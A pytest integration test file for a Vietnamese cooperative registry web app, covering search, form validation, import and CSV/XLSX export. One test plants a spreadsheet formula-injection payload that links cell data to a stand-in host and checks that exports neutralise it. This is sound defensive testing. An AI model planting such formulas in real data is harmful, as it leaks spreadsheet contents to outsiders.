"""Registry pages: search and paging, create/edit with inline errors, import (all or nothing), export."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.integration.web.support import basic, csrf, login, post

COMMUNE = "06148"  # a commune of Lạng Sơn (new province 20)


def test_search_filters_and_pages(client: TestClient) -> None:
    login(client, "langson")
    page = client.get("/registry").text
    assert "60</strong> tổ chức" in page and "Trang 1 / 3" in page
    r = client.get("/registry?kind=THT&page=1", headers={"HX-Request": "true", "HX-Target": "results"})
    assert r.status_code == 200 and "<html" not in r.text
    api = client.get("/api/v1/organisations?kind=THT&limit=500", auth=basic("langson")).json()
    assert api["total"] == len(api["items"]) > 0 and {o["kind"] for o in api["items"]} == {"THT"}
    assert f"<strong>{api['total']}</strong> tổ chức" in r.text
    active = client.get("/api/v1/organisations?status=active&limit=500", auth=basic("langson")).json()
    assert {o["status"] for o in active["items"]} == {"active"}


def test_create_shows_errors_inline_in_vietnamese(client: TestClient) -> None:
    login(client, "langson")
    r = post(client, "/registry/new", {"name": "", "kind": "XYZ", "sector": "agriculture", "commune_code": "99999",
                                        "founded_on": "31/02/2020", "members": "-3", "charter_capital": "nhiều"})
    assert r.status_code == 422
    for message in ("Tên tổ chức là bắt buộc", "Chọn loại hình", "Mã xã không có trong danh mục",
                    "Ngày thành lập ngày không hợp lệ", "phải là số nguyên không âm", "phải là một số"):
        assert message in r.text
    assert 'value="nhiều"' in r.text  # what the user typed is kept
    r = post(client, "/registry/new", {"name": "HTX Chè Mới", "kind": "HTX", "sector": "agriculture",
                                        "commune_code": COMMUNE, "founded_on": "15/03/2022", "code": "LS-0001",
                                        "charter_capital": "1.500.000.000", "members": "25"})
    assert r.status_code == 303
    org_id = int(r.headers["location"].split("/")[2].split("?")[0])
    detail = client.get(f"/registry/{org_id}").text
    assert "HTX Chè Mới" in detail and "1.500 triệu đồng" in detail and "15/03/2022" in detail
    org = client.get(f"/api/v1/organisations/{org_id}", auth=basic("langson")).json()
    assert org["province_code"] == "20" and org["old_province_code"] == "20" and org["events"][0]["kind"] == "founded"
    r = post(client, "/registry/new", {"name": "Trùng mã", "kind": "HTX", "sector": "agriculture",
                                        "commune_code": COMMUNE, "founded_on": "15/03/2022", "code": "LS-0001"})
    assert r.status_code == 422 and "đã được dùng" in r.text


def test_edit_and_lifecycle_event(client: TestClient) -> None:
    login(client, "langson")
    r = post(client, "/registry/new", {"name": "HTX Vận Tải", "kind": "HTX", "sector": "transport",
                                        "commune_code": COMMUNE, "founded_on": "01/01/2020"})
    org_id = int(r.headers["location"].split("/")[2].split("?")[0])
    r = post(client, f"/registry/{org_id}/edit", {"name": "HTX Vận Tải", "kind": "HTX", "sector": "bogus",
                                                   "commune_code": COMMUNE})
    assert r.status_code == 422 and "Chọn lĩnh vực" in r.text
    r = post(client, f"/registry/{org_id}/events", {"kind": "resumed", "on": "01/06/2021"})
    assert "event_error" in r.headers["location"]
    r = post(client, f"/registry/{org_id}/events", {"kind": "suspended", "on": "01/06/2021"})
    assert "saved" in r.headers["location"]
    assert client.get(f"/api/v1/organisations/{org_id}", auth=basic("langson")).json()["status"] == "suspended"


def test_legal_minimums_tax_code_and_future_events_are_refused(client: TestClient) -> None:
    login(client, "langson")
    base = {"name": "HTX Ba Người", "kind": "HTX", "sector": "agriculture", "commune_code": COMMUNE,
            "founded_on": "01/01/2020", "members": "3", "tax_code": "12345"}
    r = post(client, "/registry/new", base)
    assert r.status_code == 422
    assert "hợp tác xã phải có ít nhất 5 thành viên" in r.text and "Luật Hợp tác xã 2023" in r.text
    assert "Mã số thuế phải gồm 10 chữ số" in r.text
    r = post(client, "/registry/new", {**base, "kind": "LHHTX", "members": "2", "tax_code": "0101234567-001"})
    assert r.status_code == 422 and "ít nhất 3 hợp tác xã thành viên" in r.text and "Mã số thuế phải" not in r.text
    r = post(client, "/registry/new", {**base, "kind": "THT", "members": "1", "tax_code": "0101234567"})
    assert r.status_code == 422 and "tổ hợp tác phải có ít nhất 2 thành viên" in r.text
    r = post(client, "/registry/new", {**base, "members": "5", "tax_code": "0101234567"})
    assert r.status_code == 303
    org_id = int(r.headers["location"].split("/")[2].split("?")[0])
    edit = post(client, f"/registry/{org_id}/edit", {**base, "members": "4", "tax_code": "0101234567"})
    assert edit.status_code == 422 and "ít nhất 5 thành viên" in edit.text
    ahead = (date.today() + timedelta(days=1)).strftime("%d/%m/%Y")
    r = post(client, f"/registry/{org_id}/events", {"kind": "suspended", "on": ahead})
    assert "event_error" in r.headers["location"]
    assert "không được sau hôm nay" in client.get(r.headers["location"]).text
    r = post(client, f"/registry/{org_id}/events", {"kind": "dissolved", "on": "01/06/2021"})
    assert "saved" in r.headers["location"]


def _csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode("utf-8")


def test_import_is_all_or_nothing_with_row_and_column_errors(client: TestClient) -> None:
    login(client, "langson")
    header = ["Loại hình", "Tên tổ chức", "Lĩnh vực", "Mã xã", "Ngày thành lập", "Số thành viên"]
    bad = _csv([header, ["HTX", "HTX Một", "nông nghiệp", COMMUNE, "01/02/2020", "10"],
                ["HTX", "HTX Hai", "bay lượn", COMMUNE, "01/02/2020", "mười"],
                ["HTX", "HTX Ba", "nông nghiệp", "00004", "01/02/2020", "5"]])
    total = client.get("/api/v1/organisations", auth=basic("langson")).json()["total"]
    r = client.post("/registry/import", files={"file": ("so.csv", bad, "text/csv")}, data={"csrf_token": csrf(client)})
    assert r.status_code == 422 and "không ghi dữ liệu nào" in r.text
    assert "bay lượn" in r.text and "Số thành viên" in r.text and "<td class=\"num\">3</td>" in r.text
    assert client.get("/api/v1/organisations", auth=basic("langson")).json()["total"] == total
    good = _csv([header, ["HTX", "HTX Một", "nông nghiệp", COMMUNE, "01/02/2020", "10"],
                 ["THT", "THT Hai", "thương mại", COMMUNE, "2021-05-06", "1.200"]])
    r = client.post("/registry/import", files={"file": ("so.csv", good, "text/csv")}, data={"csrf_token": csrf(client)})
    assert r.status_code == 200 and "Đã nhập 2 tổ chức" in r.text
    assert client.get("/api/v1/organisations", auth=basic("langson")).json()["total"] == total + 2
    # a commune of another province is refused for a Lạng Sơn officer
    from htx.geo import gazetteer

    elsewhere = gazetteer().communes("new", "24")[0].code
    r = client.post("/registry/import", files={"file": ("x.csv", _csv([header, ["HTX", "Ngoài", "nông nghiệp", elsewhere,
                                                                                "01/02/2020", "10"]]), "text/csv")},
                    data={"csrf_token": csrf(client)})
    assert r.status_code == 422 and "ngoài phạm vi" in r.text


def test_export_csv_and_xlsx_can_be_read_back(client: TestClient) -> None:
    login(client, "langson")
    r = client.get("/registry/export.csv?kind=HTX")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Loại hình", "Mã số HTX", "Tên tổ chức"] and {row[0] for row in rows[1:]} == {"HTX"}
    r = client.get("/registry/export.xlsx?kind=HTX")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None and ws.max_row == len(rows)
    # the export's headers are import headers: parse it back without errors (codes removed to avoid duplicates)
    from htx.registry.importer import parse_records
    from htx.registry.places import place_check

    path = client.app.state.settings.data_dir / "back.csv"  # type: ignore[attr-defined]
    path.write_bytes(_csv([[c for i, c in enumerate(row) if i != 1] for row in rows]))
    assert len(parse_records(path, place_check=place_check)) == len(rows) - 1


def test_exports_keep_formula_like_names_as_text(client: TestClient) -> None:
    login(client, "langson")
    evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    r = post(client, "/registry/new", {"name": evil, "kind": "HTX", "sector": "agriculture",
                                        "commune_code": COMMUNE, "founded_on": "15/03/2022", "members": "7"})
    assert r.status_code == 303
    rows = list(csv.reader(io.StringIO(client.get("/registry/export.csv").content.decode("utf-8-sig"))))
    names = [row[2] for row in rows]
    assert "'" + evil in names and evil not in names
    ws = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
    assert ws is not None
    cells = [c for c in ws["C"] if c.value == evil]
    assert len(cells) == 1 and cells[0].data_type == "s"  # the text, not a live formula
